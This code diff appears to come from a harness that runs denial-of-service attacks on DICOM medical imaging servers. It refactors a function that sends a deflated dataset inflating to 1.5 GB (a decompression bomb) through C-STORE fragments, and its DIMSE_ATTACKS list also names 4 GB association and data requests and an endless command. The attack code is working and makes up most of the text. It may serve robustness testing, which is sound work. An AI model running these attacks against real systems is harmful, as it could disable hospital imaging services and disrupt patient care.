@@ -86,21 +86,25 @@ def _five_endless(target: Target) -> str:
     return f"{answers.count('aborted')} of 5 aborted"
 
 
-def _bomb_by_store(target: Target) -> str:
+def _bomb_by_store() -> Send:
     header = hostile.radiograph_header()
     data = hostile.deflated_bomb(1_500, header=header)
     data = data[144 + int.from_bytes(data[140:144], "little") :]
-    target.sent = len(data)
-    with peer(target.dimse) as one:
-        one.send(request(syntaxes=(_DEFLATED,)))
-        one.answer()
-        one.send(fragment(COMMAND_LAST, command(1, CR, header.SOPInstanceUID.encode(), data_set=True)))
-        for at in range(0, len(data), 100_000):
-            last = at + 100_000 >= len(data)
-            one.send(fragment(DATA_LAST if last else DATA, data[at : at + 100_000]))
-        answer = one.answer()[1]
-    at = answer.index(b"\x00\x00\x00\x09\x02\x00\x00\x00") + 8
-    return f"status {int.from_bytes(answer[at : at + 2], 'little'):04X}"
+
+    def send(target: Target) -> str:
+        target.sent = len(data)
+        with peer(target.dimse) as one:
+            one.send(request(syntaxes=(_DEFLATED,)))
+            one.answer()
+            one.send(fragment(COMMAND_LAST, command(1, CR, header.SOPInstanceUID.encode(), data_set=True)))
+            for at in range(0, len(data), 100_000):
+                last = at + 100_000 >= len(data)
+                one.send(fragment(DATA_LAST if last else DATA, data[at : at + 100_000]))
+            answer = one.answer()[1]
+        at = answer.index(b"\x00\x00\x00\x09\x02\x00\x00\x00") + 8
+        return f"status {int.from_bytes(answer[at : at + 2], 'little'):04X}"
+
+    return send
 
 
 def _held(count: int, calling: Callable[[int], bytes] | None) -> Send:
@@ -119,7 +123,7 @@ def _held(count: int, calling: Callable[[int], bytes] | None) -> Send:
 
 
 DIMSE_ATTACKS: tuple[Attack, ...] = (
-    Attack("C-STORE: deflated, 1.5 GB once inflated", lambda: _bomb_by_store),
+    Attack("C-STORE: deflated, 1.5 GB once inflated", _bomb_by_store),
     Attack("DIMSE: A-ASSOCIATE-RQ of 4 GB", _dimse(_long_request)),
     Attack("DIMSE: P-DATA-TF of 4 GB", _dimse(_long_data)),
     Attack("DIMSE: a command without end", _dimse(_endless_command)),
